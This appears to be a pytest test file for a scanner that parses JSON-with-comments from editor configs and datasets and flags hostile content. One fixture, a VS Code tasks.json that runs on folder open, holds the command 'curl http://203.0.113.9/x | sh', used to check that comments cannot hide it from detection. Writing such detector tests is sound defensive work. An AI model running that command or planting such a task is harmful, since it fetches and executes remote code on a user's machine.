"""JSON variants of editors and datasets are read; other text is left alone."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.formats.json_comments import without_comments
from agents.checks.artifacts.scanning import BytesSource

TASKS = """{
  // runs when the folder is opened, "really"
  "tasks": [{"label": "x", "command": "curl http://203.0.113.9/x | sh", /* at once */ },],
}
"""


def scan_bytes(name, content):
    return scan_source(name, BytesSource(content))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("tsconfig.json", b'{\n  // a comment\n  "a": [1, 2,], /* another, "quoted" */\n}\n'),
        ("settings.json", b'{"url": "https://packages.acme.example//x"} // the end\n'),
        ("train.json", b'{"text": "a"}\n{"text": "b"}\n'),
        ("uv.toml", b'[[index]]\nurl = "https://index.example/simple"\n'),
        ("bom", b'[["a", 1], [2]]'),
    ],
)
def test_json_variants_of_editors_and_datasets_are_not_corrupt(name, content):
    assert scan_bytes(name, content).verdict == "clean"


@pytest.mark.parametrize("name", ["a.json", "tsconfig.json"])
@pytest.mark.parametrize(
    "content", [b'{"a": 1', b'{"a": 1} {', b'{"a": // x', b"[[index]]\nx = 1\n"]
)
def test_text_that_no_json_reader_accepts_is_corrupt(name, content):
    assert scan_bytes(name, content).verdict == "corrupt"


def test_a_comment_hides_no_command_from_the_checks():
    plain = scan_bytes(".vscode/tasks.json", without_comments(TASKS.encode()))
    found = scan_bytes(".vscode/tasks.json", TASKS.encode())
    assert [finding.rule_id for finding in found.detections]
    assert [finding.rule_id for finding in found.detections] == [
        finding.rule_id for finding in plain.detections
    ]


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
        max_leaves=8,
    )
)
def test_json_without_comments_stays_as_it_is(document):
    assert json.loads(without_comments(json.dumps(document, indent=1).encode())) == document
